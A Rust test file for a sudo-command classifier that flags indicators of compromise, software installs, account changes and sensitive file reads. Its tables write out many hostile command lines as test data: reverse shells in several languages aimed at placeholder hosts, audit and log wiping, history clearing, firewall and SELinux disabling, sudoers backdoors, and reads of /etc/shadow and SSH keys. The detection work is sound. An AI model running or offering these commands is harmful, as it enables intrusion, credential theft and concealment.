//! Tables of real command lines with the classes they must (and must not) fall in, and the
//! size cases of docs/threat-model.md#b10. Each row is `(command, argv[1..], expected bits)`.

use super::*;

const NONE: u32 = 0;
const IOC: u32 = CLASS_IOC;
const SW: u32 = CLASS_SOFTWARE_INSTALL;
const ACCT: u32 = CLASS_ACCOUNT_CHANGE;
const READ: u32 = CLASS_SENSITIVE_READ;

type Row<'a> = (&'a str, &'a [&'a str], u32);

fn classify_as_root(cmd: &str, argv: &[&str]) -> u32 {
    classify(&SudoRequest::new("alice", 70001, cmd, argv), &[])
}

fn check(rows: &[Row<'_>]) {
    let mut failures = Vec::new();
    for (cmd, argv, want) in rows {
        let got = classify_as_root(cmd, argv);
        if got != *want {
            failures.push(format!(
                "{cmd} {argv:?}: got {:?}, want {:?}",
                class_names(got),
                class_names(*want)
            ));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn ioc_positives() {
    check(&[
        ("/usr/bin/nc", &["-e", "/bin/sh", "10.0.0.1", "4444"], IOC),
        (
            "/usr/bin/ncat",
            &["10.0.0.1", "4444", "--exec", "/bin/bash"],
            IOC,
        ),
        ("/usr/bin/ncat", &["--sh-exec=bash", "h", "1"], IOC),
        (
            "/bin/nc.traditional",
            &["-lvnp", "4444", "-e", "/bin/sh"],
            IOC,
        ),
        ("/usr/bin/netcat", &["-c", "sh", "h", "1"], IOC),
        ("/bin/nc", &["-nve", "/bin/bash", "h", "1"], IOC),
        (
            "/bin/bash",
            &["-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            IOC,
        ),
        (
            "/bin/bash",
            &["-c", "sh -i >& /dev/udp/10.0.0.1/53 0>&1"],
            IOC,
        ),
        ("/bin/bash", &["-i"], NONE), // an interactive shell alone is not an IOC
        (
            "/bin/sh",
            &[
                "-c",
                "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done",
            ],
            IOC,
        ),
        (
            "/bin/bash",
            &[
                "-c",
                "0<&196;exec 196<>/dev/tcp/h/4242; sh <&196 >&196 2>&196",
            ],
            IOC,
        ),
        (
            "/bin/bash",
            &[
                "-c",
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
            ],
            IOC,
        ),
        ("/bin/bash", &["-c", "nc h 4444 | /bin/bash"], IOC),
        ("/bin/sh", &["-c", "telnet h 1 | /bin/sh | telnet h 2"], IOC),
        (
            "/usr/bin/socat",
            &["tcp-connect:10.0.0.1:4444", "exec:/bin/sh,pty,stderr"],
            IOC,
        ),
        ("/usr/bin/socat", &["TCP:h:1", "EXEC:'bash -li',pty"], IOC),
        ("/usr/bin/socat", &["TCP:h:1", "SYSTEM:sh"], IOC),
        (
            "/usr/bin/python3",
            &[
                "-c",
                "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));\
                 os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
            ],
            IOC,
        ),
        (
            "/usr/bin/python3.11",
            &[
                "-c",
                "import socket,pty;s=socket.create_connection(('h',1));pty.spawn('sh')",
            ],
            IOC,
        ),
        (
            "/usr/bin/perl",
            &[
                "-e",
                "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));\
                 exec('/bin/sh -i');",
            ],
            IOC,
        ),
        (
            "/usr/bin/php",
            &[
                "-r",
                "$sock=fsockopen('h',1);exec('/bin/sh -i <&3 >&3 2>&3');",
            ],
            IOC,
        ),
        (
            "/usr/bin/ruby",
            &[
                "-rsocket",
                "-e",
                "f=TCPSocket.open('h',1).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
            ],
            IOC,
        ),
        ("/sbin/auditctl", &["-e", "0"], IOC),
        ("/sbin/auditctl", &["-e0"], IOC),
        ("/sbin/auditctl", &["-D"], IOC),
        ("/usr/bin/systemctl", &["stop", "auditd"], IOC),
        (
            "/usr/bin/systemctl",
            &["disable", "--now", "auditd.service"],
            IOC,
        ),
        ("/usr/bin/systemctl", &["mask", "systemd-journald"], IOC),
        ("/usr/bin/systemctl", &["kill", "rsyslog"], IOC),
        ("/usr/sbin/service", &["auditd", "stop"], IOC),
        ("/etc/init.d/auditd", &["stop"], IOC),
        ("/usr/bin/pkill", &["auditd"], IOC),
        ("/usr/bin/killall", &["rsyslogd"], IOC),
        ("/usr/bin/shred", &["-u", "/var/log/auth.log"], IOC),
        ("/usr/bin/truncate", &["-s", "0", "/var/log/syslog"], IOC),
        ("/bin/rm", &["-rf", "/var/log/journal"], IOC),
        ("/bin/rm", &["/var/log/../log/wtmp"], IOC),
        ("/bin/rm", &["/root/.bash_history"], IOC | READ),
        ("/bin/rm", &[".bash_history"], IOC),
        ("/usr/bin/journalctl", &["--vacuum-time=1s"], IOC),
        ("/usr/bin/journalctl", &["--vacuum-size", "1K"], IOC),
        ("/usr/bin/journalctl", &["--rotate"], IOC),
        ("/bin/bash", &["-c", "history -c"], IOC),
        ("/bin/bash", &["-c", "history -d 42"], IOC),
        ("/bin/bash", &["-c", "unset HISTFILE; id"], IOC),
        ("/bin/bash", &["-c", "export HISTFILE=/dev/null"], IOC),
        ("/bin/bash", &["-c", "HISTSIZE=0 bash"], IOC),
        ("/bin/bash", &["-c", "set +o history"], IOC),
        ("/bin/sh", &["-c", "> /var/log/auth.log"], IOC),
        ("/bin/bash", &["-c", "cat /dev/null > /var/log/wtmp"], IOC),
        ("/bin/bash", &["-c", "echo -n >~/.bash_history"], IOC), // a write, not a read
        (
            "/bin/ln",
            &["-sf", "/dev/null", "/root/.bash_history"],
            IOC | READ,
        ),
        ("/usr/sbin/setenforce", &["0"], IOC),
        ("/usr/sbin/setenforce", &["Permissive"], IOC),
        ("/usr/sbin/iptables", &["-F"], IOC),
        ("/usr/sbin/iptables", &["-t", "nat", "--flush"], IOC),
        ("/usr/sbin/ip6tables-legacy", &["-F", "INPUT"], IOC),
        ("/usr/sbin/nft", &["flush", "ruleset"], IOC),
        ("/usr/sbin/ufw", &["disable"], IOC),
        // Through wrappers and scripts.
        ("/usr/bin/env", &["nc", "-e", "/bin/sh", "h", "1"], IOC),
        (
            "/usr/bin/env",
            &["-i", "PATH=/bin", "nc", "-e", "/bin/sh", "h", "1"],
            IOC,
        ),
        (
            "/usr/bin/timeout",
            &["10", "nc", "-e", "/bin/sh", "h", "1"],
            IOC,
        ),
        (
            "/usr/bin/timeout",
            &["-s", "KILL", "10", "auditctl", "-D"],
            IOC,
        ),
        ("/usr/bin/nice", &["-n", "5", "setenforce", "0"], IOC),
        (
            "/usr/bin/nohup",
            &["bash", "-c", "sh -i >& /dev/tcp/h/53 0>&1"],
            IOC,
        ),
        (
            "/usr/bin/sudo",
            &["-u", "root", "systemctl", "stop", "auditd"],
            IOC,
        ),
        ("/bin/busybox", &["rm", "/var/log/messages"], IOC),
        (
            "/usr/bin/xargs",
            &["-n", "1", "shred", "/var/log/btmp"],
            IOC,
        ),
        ("/usr/bin/find", &["/var/log", "-type", "f", "-delete"], IOC),
        (
            "/usr/bin/find",
            &[
                "/var/log", "-name", "*.log", "-exec", "truncate", "-s", "0", "{}", ";",
            ],
            IOC,
        ),
        ("/bin/su", &["-c", "auditctl -e 0"], IOC),
        ("/bin/bash", &["-lc", "true && systemctl stop auditd"], IOC),
        ("/bin/bash", &["-c", "echo $(iptables -F)"], IOC),
        ("/bin/bash", &["-c", "echo \"$(setenforce 0)\""], IOC),
        ("/bin/sh", &["-c", "sh -c 'bash -c \"history -c\"'"], IOC),
        (
            "/usr/bin/watch",
            &["-n", "1", "truncate", "-s0", "/var/log/syslog"],
            IOC,
        ),
    ]);
}

#[test]
fn ioc_negatives() {
    check(&[
        ("/usr/bin/nc", &["-zv", "host", "22"], NONE),
        ("/usr/bin/nc", &["-l", "4444"], NONE),
        ("/usr/bin/ncat", &["--ssl", "h", "443"], NONE),
        (
            "/bin/bash",
            &["-c", "timeout 1 bash -c '</dev/tcp/db/5432'"],
            NONE,
        ),
        ("/bin/bash", &["-c", "echo > /dev/tcp/localhost/22"], NONE),
        ("/bin/bash", &["-c", "cat /tmp/x | nc h 80"], NONE),
        (
            "/usr/bin/python3",
            &["-c", "import socket; print(socket.gethostname())"],
            NONE,
        ),
        (
            "/usr/bin/python3",
            &["-c", "import os; os.system('id')"],
            NONE,
        ),
        (
            "/usr/bin/python3",
            &["/opt/app/socket_exec_server.py"],
            NONE,
        ),
        ("/usr/bin/perl", &["-e", "print 'hello'"], NONE),
        (
            "/usr/bin/socat",
            &["TCP-LISTEN:8080,fork", "TCP:localhost:80"],
            NONE,
        ),
        ("/usr/bin/socat", &["-", "UNIX-CONNECT:/run/app.sock"], NONE),
        ("/sbin/auditctl", &["-l"], NONE),
        ("/sbin/auditctl", &["-e", "1"], NONE),
        ("/sbin/auditctl", &["-w", "/etc/passwd", "-p", "wa"], NONE),
        ("/usr/bin/systemctl", &["restart", "auditd"], NONE),
        ("/usr/bin/systemctl", &["stop", "nginx"], NONE),
        ("/usr/bin/systemctl", &["status", "auditd"], NONE),
        ("/usr/bin/systemctl", &["disable", "apache2"], NONE),
        ("/usr/sbin/service", &["auditd", "status"], NONE),
        ("/usr/sbin/service", &["nginx", "stop"], NONE),
        ("/usr/bin/pkill", &["-f", "gunicorn"], NONE),
        (
            "/usr/bin/journalctl",
            &["-u", "nginx", "--since", "today"],
            NONE,
        ),
        ("/usr/bin/journalctl", &["--disk-usage"], NONE),
        ("/bin/rm", &["/tmp/x"], NONE),
        ("/bin/rm", &["-rf", "/var/lib/apt/lists/partial"], NONE),
        ("/bin/rm", &["/var/logs-old/x"], NONE),
        ("/usr/bin/tail", &["-f", "/var/log/syslog"], NONE),
        ("/bin/cat", &["/var/log/auth.log"], NONE),
        ("/usr/bin/truncate", &["-s", "0", "/srv/app/cache.db"], NONE),
        ("/usr/bin/tee", &["-a", "/var/log/app.log"], NONE),
        ("/usr/sbin/iptables", &["-L", "-n"], NONE),
        (
            "/usr/sbin/iptables",
            &["-A", "INPUT", "-p", "tcp", "--dport", "22", "-j", "ACCEPT"],
            NONE,
        ),
        ("/usr/sbin/nft", &["list", "ruleset"], NONE),
        ("/usr/sbin/setenforce", &["1"], NONE),
        ("/usr/sbin/getenforce", &[], NONE),
        ("/usr/sbin/ufw", &["status"], NONE),
        ("/usr/sbin/ufw", &["allow", "22"], NONE),
        ("/usr/bin/find", &["/var/log", "-name", "*.gz"], NONE),
        ("/usr/bin/find", &["/tmp", "-delete"], NONE),
        ("/bin/bash", &["-c", "echo hello >> /var/log/app.log"], NONE),
        ("/bin/bash", &["-c", "history | tail"], NONE),
        ("/bin/bash", &["-c", "logger 'rm /var/log/x'"], NONE),
        ("/bin/bash", &["-c", "echo '# history -c'"], NONE),
        ("/bin/bash", &["-c", "ls # ; history -c"], NONE),
        (
            "/bin/bash",
            &["-c", "grep -c error /var/log/syslog 2>/dev/null"],
            NONE,
        ),
        ("/bin/bash", &["/opt/scripts/rotate.sh"], NONE),
        ("/usr/bin/env", &[], NONE),
        ("/usr/bin/sudo", &["-l"], NONE),
        ("/usr/bin/sudo", &["-e", "/etc/hosts"], NONE),
        ("/usr/bin/command", &["-v", "nc"], NONE),
    ]);
}

#[test]
fn software_positives() {
    check(&[
        ("/usr/bin/apt", &["install", "nginx"], SW),
        ("/usr/bin/apt-get", &["-y", "install", "nginx"], SW),
        (
            "/usr/bin/apt-get",
            &["-o", "Dpkg::Options::=--force-confold", "dist-upgrade"],
            SW,
        ),
        (
            "/usr/bin/apt-get",
            &["-qq", "-t", "bookworm-backports", "install", "x"],
            SW,
        ),
        ("/usr/bin/apt", &["remove", "x"], SW),
        ("/usr/bin/apt", &["purge", "x"], SW),
        ("/usr/bin/apt", &["autoremove"], SW),
        ("/usr/bin/apt", &["full-upgrade"], SW),
        ("/usr/bin/apt", &["upgrade"], SW),
        ("/usr/bin/apt", &["install", "./local.deb"], SW),
        ("/usr/bin/aptitude", &["safe-upgrade"], SW),
        ("/usr/bin/dpkg", &["-i", "x.deb"], SW),
        ("/usr/bin/dpkg", &["--install", "x.deb"], SW),
        ("/usr/bin/dpkg", &["-r", "x"], SW),
        ("/usr/bin/dpkg", &["-P", "x"], SW),
        ("/usr/bin/dpkg", &["-iR", "/tmp/debs"], SW),
        ("/usr/bin/dpkg", &["--force-all", "--purge", "x"], SW),
        ("/usr/bin/rpm", &["-ivh", "x.rpm"], SW),
        ("/usr/bin/rpm", &["-Uvh", "x.rpm"], SW),
        ("/usr/bin/rpm", &["-e", "x"], SW),
        ("/usr/bin/rpm", &["--install", "x.rpm"], SW),
        ("/usr/bin/dnf", &["install", "x"], SW),
        ("/usr/bin/dnf", &["-y", "update"], SW),
        (
            "/usr/bin/dnf",
            &["--enablerepo", "epel", "install", "x"],
            SW,
        ),
        (
            "/usr/bin/dnf",
            &["group", "install", "Development Tools"],
            SW,
        ),
        ("/usr/bin/yum", &["remove", "x"], SW),
        ("/usr/bin/yum", &["localinstall", "x.rpm"], SW),
        ("/usr/bin/zypper", &["in", "x"], SW),
        ("/usr/bin/zypper", &["--non-interactive", "dup"], SW),
        ("/usr/bin/pip", &["install", "requests"], SW),
        ("/usr/bin/pip3", &["install", "-U", "x"], SW),
        ("/usr/bin/pip3.11", &["uninstall", "-y", "x"], SW),
        (
            "/usr/bin/pip",
            &["--proxy", "http://p:3128", "install", "x"],
            SW,
        ),
        ("/usr/bin/python3", &["-m", "pip", "install", "x"], SW),
        ("/usr/bin/python", &["-mpip", "install", "x"], SW),
        (
            "/usr/bin/python3",
            &["-I", "-m", "pip3", "install", "x"],
            SW,
        ),
        ("/usr/bin/snap", &["install", "code", "--classic"], SW),
        ("/usr/bin/snap", &["refresh"], SW),
        ("/usr/bin/flatpak", &["install", "flathub", "org.x.App"], SW),
        ("/usr/bin/gem", &["install", "rails"], SW),
        ("/usr/bin/npm", &["install", "-g", "x"], SW),
        ("/usr/bin/npm", &["-g", "i", "x"], SW),
        ("/usr/bin/npm", &["uninstall", "--global", "x"], SW),
        ("/usr/bin/yarn", &["global", "add", "x"], SW),
        ("/sbin/apk", &["add", "curl"], SW),
        ("/usr/bin/pacman", &["-Syu"], SW),
        ("/usr/bin/pacman", &["-S", "vim"], SW),
        ("/usr/bin/pacman", &["-Sy", "vim"], SW),
        ("/usr/bin/pacman", &["-R", "vim"], SW),
        ("/usr/bin/cargo", &["install", "ripgrep"], SW),
        (
            "/usr/bin/env",
            &[
                "DEBIAN_FRONTEND=noninteractive",
                "apt-get",
                "install",
                "-y",
                "x",
            ],
            SW,
        ),
        ("/usr/bin/sudo", &["-u", "root", "apt", "install", "x"], SW),
        ("/usr/bin/env", &["-S", "apt-get install -y x"], SW),
        ("/usr/bin/env", &["--split-string=pip install x"], SW),
        (
            "/bin/bash",
            &["-c", "apt-get update && apt-get install -y x"],
            SW,
        ),
        (
            "/bin/sh",
            &["-c", "DEBIAN_FRONTEND=noninteractive apt-get -y upgrade"],
            SW,
        ),
    ]);
}

#[test]
fn software_negatives() {
    check(&[
        ("/usr/bin/apt", &["list", "--installed"], NONE),
        ("/usr/bin/apt", &["show", "nginx"], NONE),
        ("/usr/bin/apt", &["search", "install"], NONE),
        ("/usr/bin/apt", &["update"], NONE),
        ("/usr/bin/apt-get", &["update"], NONE),
        ("/usr/bin/apt-get", &["download", "x"], NONE),
        ("/usr/bin/apt-get", &["-o", "install", "check"], NONE),
        ("/usr/bin/apt-cache", &["policy", "x"], NONE),
        ("/usr/bin/apt-mark", &["showmanual"], NONE),
        ("/usr/bin/dpkg", &["-l"], NONE),
        ("/usr/bin/dpkg", &["-L", "nginx"], NONE),
        ("/usr/bin/dpkg", &["-s", "nginx"], NONE),
        ("/usr/bin/dpkg", &["-S", "/bin/ls"], NONE),
        ("/usr/bin/dpkg", &["--get-selections"], NONE),
        ("/usr/bin/dpkg", &["--print-architecture"], NONE),
        ("/usr/bin/dpkg", &["-c", "x.deb"], NONE),
        ("/usr/bin/dpkg-query", &["-W", "-f=${Package}\\n"], NONE),
        ("/usr/bin/rpm", &["-qa"], NONE),
        ("/usr/bin/rpm", &["-qi", "x"], NONE),
        ("/usr/bin/rpm", &["-qf", "/bin/ls"], NONE),
        ("/usr/bin/rpm", &["-V", "x"], NONE),
        ("/usr/bin/rpm", &["--import", "key.asc"], NONE),
        ("/usr/bin/dnf", &["list", "installed"], NONE),
        ("/usr/bin/dnf", &["info", "x"], NONE),
        ("/usr/bin/dnf", &["search", "install"], NONE),
        ("/usr/bin/dnf", &["group", "list"], NONE),
        ("/usr/bin/yum", &["check-update"], NONE),
        ("/usr/bin/zypper", &["se", "x"], NONE),
        ("/usr/bin/pip", &["list"], NONE),
        ("/usr/bin/pip", &["show", "x"], NONE),
        ("/usr/bin/pip3", &["freeze"], NONE),
        ("/usr/bin/pip3", &["download", "x"], NONE),
        ("/usr/bin/python3", &["-m", "pip", "list"], NONE),
        ("/usr/bin/python3", &["-m", "venv", "install"], NONE),
        ("/usr/bin/python3", &["-c", "import pip", "install"], NONE),
        ("/usr/bin/snap", &["list"], NONE),
        ("/usr/bin/flatpak", &["list"], NONE),
        ("/usr/bin/gem", &["list"], NONE),
        ("/usr/bin/npm", &["install"], NONE),
        ("/usr/bin/npm", &["install", "lodash"], NONE),
        ("/usr/bin/npm", &["ls", "-g"], NONE),
        ("/usr/bin/npm", &["-g", "list"], NONE),
        ("/sbin/apk", &["info"], NONE),
        ("/usr/bin/pacman", &["-Ss", "vim"], NONE),
        ("/usr/bin/pacman", &["-Qi", "vim"], NONE),
        ("/usr/bin/pacman", &["-Sy"], NONE),
        ("/usr/bin/cargo", &["build", "--release"], NONE),
        ("/usr/bin/make", &["install"], NONE),
        ("/bin/echo", &["apt", "install", "x"], NONE),
        ("/bin/bash", &["-c", "echo 'apt install x'"], NONE),
    ]);
}

#[test]
fn account_positives() {
    check(&[
        ("/usr/sbin/useradd", &["-m", "bob"], ACCT),
        ("/usr/sbin/usermod", &["-aG", "sudo", "bob"], ACCT),
        ("/usr/sbin/userdel", &["-r", "bob"], ACCT),
        ("/usr/sbin/groupadd", &["ops"], ACCT),
        ("/usr/sbin/groupmod", &["-n", "a", "b"], ACCT),
        ("/usr/sbin/groupdel", &["ops"], ACCT),
        ("/usr/sbin/adduser", &["bob"], ACCT),
        ("/usr/sbin/deluser", &["bob", "sudo"], ACCT),
        ("/usr/sbin/addgroup", &["ops"], ACCT),
        ("/usr/sbin/delgroup", &["ops"], ACCT),
        ("/usr/bin/passwd", &[], ACCT),
        ("/usr/bin/passwd", &["bob"], ACCT),
        ("/usr/bin/passwd", &["-l", "bob"], ACCT),
        ("/usr/sbin/chpasswd", &[], ACCT),
        ("/usr/bin/chage", &["-M", "90", "bob"], ACCT),
        ("/usr/bin/gpasswd", &["-a", "bob", "sudo"], ACCT),
        ("/usr/sbin/vipw", &[], ACCT),
        ("/usr/sbin/vigr", &["-s"], ACCT),
        ("/usr/sbin/visudo", &[], ACCT),
        (
            "/usr/sbin/visudo",
            &["-f", "/etc/sudoers.d/ops"],
            ACCT | READ,
        ),
        ("/usr/bin/chsh", &["-s", "/bin/zsh", "bob"], ACCT),
        ("/usr/bin/chfn", &["bob"], ACCT),
        ("/usr/bin/vi", &["/etc/passwd"], ACCT),
        ("/usr/bin/vim", &["/etc/sudoers.d/admins"], ACCT | READ),
        ("/usr/bin/vim.basic", &["/etc/shadow"], ACCT | READ),
        ("/bin/nano", &["/etc/group"], ACCT),
        ("/usr/bin/emacs", &["/etc/gshadow"], ACCT | READ),
        ("/usr/bin/vi", &["/etc/../etc/passwd"], ACCT),
        ("/usr/bin/vi", &["//etc/./passwd"], ACCT),
        ("/usr/bin/tee", &["-a", "/etc/sudoers"], ACCT | READ),
        ("/usr/bin/tee", &["/etc/sudoers.d/bob"], ACCT | READ),
        ("/bin/cp", &["/tmp/x", "/etc/sudoers.d/"], ACCT | READ),
        ("/bin/cp", &["/tmp/passwd", "/etc/"], ACCT),
        ("/bin/cp", &["-t", "/etc/sudoers.d", "x"], ACCT | READ),
        ("/bin/cp", &["/tmp/g", "/etc/group"], ACCT),
        ("/bin/mv", &["/etc/shadow", "/tmp/s"], ACCT | READ),
        ("/bin/mv", &["/tmp/p", "/etc/passwd"], ACCT),
        (
            "/usr/bin/install",
            &["-m", "440", "f", "/etc/sudoers.d/f"],
            ACCT | READ,
        ),
        (
            "/bin/ln",
            &["-s", "/tmp/x", "/etc/sudoers.d/x"],
            ACCT | READ,
        ),
        ("/bin/sed", &["-i", "s/x/y/", "/etc/passwd"], ACCT),
        ("/bin/sed", &["-ri", "s/x/y/", "/etc/group"], ACCT),
        (
            "/bin/sed",
            &["--in-place=.bak", "s/x/y/", "/etc/gshadow"],
            ACCT | READ,
        ),
        (
            "/usr/bin/perl",
            &["-pi", "-e", "s/x/y/", "/etc/passwd"],
            ACCT,
        ),
        ("/bin/dd", &["if=/tmp/x", "of=/etc/shadow"], ACCT | READ),
        ("/bin/chmod", &["666", "/etc/shadow"], ACCT | READ),
        ("/bin/chown", &["bob", "/etc/sudoers"], ACCT | READ),
        ("/bin/rm", &["/etc/sudoers.d/x"], ACCT | READ),
        (
            "/bin/bash",
            &["-c", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers"],
            ACCT,
        ),
        ("/bin/bash", &["-c", "echo x > /etc/sudoers.d/bob"], ACCT),
        (
            "/bin/sh",
            &["-c", "echo 'x:0:0::/:/bin/sh'>>/etc/passwd"],
            ACCT,
        ),
        (
            "/bin/bash",
            &["-c", "cat /tmp/p | tee /etc/passwd >/dev/null"],
            ACCT,
        ),
        ("/usr/bin/env", &["EDITOR=vi", "vipw"], ACCT),
        ("/usr/bin/sudo", &["usermod", "-L", "bob"], ACCT),
    ]);
}

#[test]
fn account_negatives() {
    check(&[
        ("/bin/cat", &["/etc/passwd"], NONE),
        ("/usr/bin/getent", &["passwd", "bob"], NONE),
        ("/usr/bin/id", &["bob"], NONE),
        ("/usr/bin/groups", &["bob"], NONE),
        ("/bin/cp", &["/etc/passwd", "/tmp/p"], NONE),
        ("/bin/cp", &["/etc/group", "/etc/group.bak"], NONE),
        ("/bin/cp", &["/tmp/a", "/tmp/b"], NONE),
        ("/bin/cp", &["/tmp/hosts", "/etc/"], NONE),
        ("/bin/mv", &["/tmp/a", "/tmp/b"], NONE),
        ("/usr/bin/less", &["/etc/group"], NONE),
        ("/bin/grep", &["bob", "/etc/passwd"], NONE),
        ("/bin/sed", &["-n", "/bob/p", "/etc/passwd"], NONE),
        ("/bin/sed", &["-e", "s/i/x/", "/etc/passwd"], NONE),
        ("/usr/bin/vi", &["/etc/hosts"], NONE),
        ("/usr/bin/vi", &["/etc/passwd.bak"], NONE),
        ("/usr/bin/vi", &["passwd"], NONE),
        ("/bin/nano", &["/etc/nginx/nginx.conf"], NONE),
        ("/usr/sbin/visudo", &["-c"], NONE),
        ("/usr/sbin/visudo", &["--check"], NONE),
        ("/usr/sbin/visudo", &["-cf", "/etc/sudoers"], READ),
        ("/usr/bin/chage", &["-l", "bob"], NONE),
        ("/usr/bin/passwd", &["-S", "bob"], NONE),
        ("/usr/bin/passwd", &["--status", "bob"], NONE),
        ("/usr/bin/chsh", &["-l"], NONE),
        ("/usr/bin/tee", &["/tmp/x"], NONE),
        (
            "/usr/bin/perl",
            &["-Mstrict", "-e", "print 1", "/etc/passwd"],
            NONE,
        ),
        ("/bin/bash", &["-c", "cat /etc/passwd > /tmp/p"], NONE),
        ("/bin/bash", &["-c", "grep x /etc/group | wc -l"], NONE),
        ("/usr/bin/last", &[], NONE),
        ("/usr/bin/who", &[], NONE),
        ("/bin/ls", &["-l", "/etc/sudoers.d"], NONE),
        ("/bin/dd", &["if=/etc/passwd", "of=/tmp/p"], NONE),
        ("/usr/sbin/pwck", &["-r"], NONE),
        ("/usr/bin/newgrp", &["docker"], NONE),
    ]);
}

#[test]
fn sensitive_positives() {
    check(&[
        ("/bin/cat", &["/etc/shadow"], READ),
        ("/bin/cat", &["/etc/gshadow"], READ),
        ("/bin/cat", &["/etc/shadow-"], READ),
        ("/usr/bin/less", &["/etc/sudoers"], READ),
        ("/bin/cat", &["/etc/sudoers.d/admins"], READ),
        ("/bin/cat", &["/etc/ssh/ssh_host_ed25519_key"], READ),
        ("/bin/cp", &["/etc/ssh/ssh_host_rsa_key", "/tmp/"], READ),
        ("/bin/cat", &["/root/.ssh/id_rsa"], READ),
        ("/bin/tar", &["czf", "/tmp/x.tgz", "/root"], READ),
        ("/bin/grep", &["-r", "pass", "/root/notes"], READ),
        ("/usr/bin/head", &["/etc/security/opasswd"], READ),
        ("/usr/bin/base64", &["/etc/shadow"], READ),
        ("/bin/cat", &["/etc/../etc/shadow"], READ),
        ("/bin/cat", &["//etc//shadow"], READ),
        ("/bin/cat", &["/tmp/../etc/./shadow"], READ),
        ("/bin/dd", &["if=/etc/shadow", "of=/tmp/s"], READ),
        ("/bin/grep", &["--file=/etc/shadow", "x"], READ),
        ("/bin/grep", &["-f/etc/shadow", "x"], READ),
        (
            "/usr/bin/openssl",
            &["rsa", "-in", "/etc/ssh/ssh_host_rsa_key"],
            READ,
        ),
        ("/usr/sbin/john", &["--show", "/etc/shadow"], READ),
        ("/bin/bash", &["-c", "cat /etc/sha*"], READ),
        ("/bin/bash", &["-c", "cat /etc/s?adow"], READ),
        ("/bin/bash", &["-c", "cat /etc/[s]hadow"], READ),
        ("/bin/bash", &["-c", "cat /etc/ssh/*_key"], READ),
        ("/bin/bash", &["-c", "cat /root/*"], READ),
        ("/bin/bash", &["-c", "cat ~/.ssh/id_rsa"], READ),
        ("/bin/bash", &["-c", "cat ~root/.bash_history"], READ),
        (
            "/bin/bash",
            &["-c", "while read l; do echo $l; done < /etc/shadow"],
            READ,
        ),
        ("/bin/bash", &["-c", "x=$(cat /etc/shadow); echo $x"], READ),
        (
            "/bin/bash",
            &["-c", "echo \"$(head -1 /etc/gshadow)\""],
            READ,
        ),
        ("/usr/bin/env", &["cat", "/etc/shadow"], READ),
        ("/usr/bin/xargs", &["cat", "/etc/shadow"], READ),
        ("/usr/bin/find", &["/root", "-name", "*.pem"], READ),
        (
            "/usr/bin/find",
            &["/etc", "-name", "x", "-exec", "cat", "/etc/shadow", ";"],
            READ,
        ),
    ]);
}

#[test]
fn sensitive_negatives() {
    check(&[
        ("/bin/cat", &["/etc/passwd"], NONE),
        ("/bin/cat", &["/etc/group"], NONE),
        ("/bin/cat", &["/etc/ssh/ssh_host_ed25519_key.pub"], NONE),
        ("/bin/cat", &["/etc/ssh/sshd_config"], NONE),
        ("/bin/cat", &["/etc/ssh/ssh_host_keys/x_key"], NONE),
        ("/bin/cat", &["/etc/shadowsocks.json"], NONE),
        ("/bin/cat", &["/etc/sudoers.dist"], NONE),
        ("/bin/cat", &["/rootfs/x"], NONE),
        ("/bin/cat", &["/home/root/x"], NONE),
        ("/bin/cat", &["/var/log/syslog"], NONE),
        ("/bin/cat", &["etc/shadow"], NONE),
        ("/bin/cat", &["shadow"], NONE),
        ("/bin/ls", &["-l", "/etc/shadow"], NONE),
        ("/usr/bin/stat", &["/etc/shadow"], NONE),
        ("/bin/ls", &["/root"], NONE),
        ("/usr/bin/test", &["-e", "/etc/sudoers.d/x"], NONE),
        ("/bin/echo", &["/etc/shadow"], NONE),
        // Not through a shell: sudo runs cat with a literal `*`, which names no file.
        ("/bin/cat", &["/etc/sha*"], NONE),
        ("/bin/bash", &["-c", "cat /etc/pass*"], NONE),
        ("/bin/bash", &["-c", "cat /etc/ssh/*.pub"], NONE),
        ("/bin/bash", &["-c", "echo /etc/shadow"], NONE),
        ("/bin/bash", &["-c", "cat /etc/hosts > /tmp/shadow"], NONE),
    ]);
    // `~` is root's home only when running as root.
    let argv: &[&str] = &["-c", "cat ~/.ssh/id_rsa"];
    let mut req = SudoRequest::new("alice", 70001, "/bin/bash", argv);
    req.runas_user = "postgres";
    req.runas_uid = 115;
    assert_eq!(classify(&req, &[]), NONE);
}

#[test]
fn sudoedit_files() {
    let cases: &[(&[&str], u32)] = &[
        (&["/etc/sudoers"], ACCT | READ),
        (&["/etc/passwd"], ACCT),
        (&["/etc/shadow"], ACCT | READ),
        (&["/etc/hosts"], NONE),
        (&["--", "/etc/sudoers.d/x"], ACCT | READ),
        (&["/etc/ssh/ssh_host_rsa_key"], READ),
        (&["/etc/nginx/nginx.conf", "/etc/group"], ACCT),
    ];
    for (argv, want) in cases {
        let mut req = SudoRequest::new("alice", 70001, "/usr/bin/sudoedit", argv);
        req.edit = true;
        assert_eq!(classify(&req, &[]), *want, "sudoedit {argv:?}");
    }
}

#[test]
fn several_classes_at_once() {
    check(&[
        (
            "/bin/bash",
            &[
                "-c",
                "apt install x; cat /etc/shadow; useradd y; history -c",
            ],
            CLASS_ALL,
        ),
        ("/bin/chmod", &["o+r", "/etc/shadow"], ACCT | READ),
    ]);
}

#[test]
fn operator_ioc_commands() {
    let extra = [
        "tcpdump",
        "/usr/bin/curl -T",
        "/usr/bin/id \"\"",
        "/usr/bin/strace",
        "ALL",
        "bad/name",
        "",
    ];
    let rows: &[(&str, &[&str], u32)] = &[
        ("/usr/sbin/tcpdump", &["-i", "any"], IOC),
        ("/opt/bin/tcpdump", &[], IOC),
        ("/usr/bin/curl", &["-T", "/etc/hosts", "http://x"], IOC),
        ("/usr/bin/curl", &["https://example.com"], NONE),
        ("/usr/bin/curl", &[], NONE),
        ("/usr/bin/id", &[], IOC),
        ("/usr/bin/id", &["-u"], NONE),
        ("/usr/bin/strace", &["-p", "1"], IOC),
        ("/usr/local/bin/strace", &["-p", "1"], NONE),
        ("/usr/bin/env", &["tcpdump"], IOC),
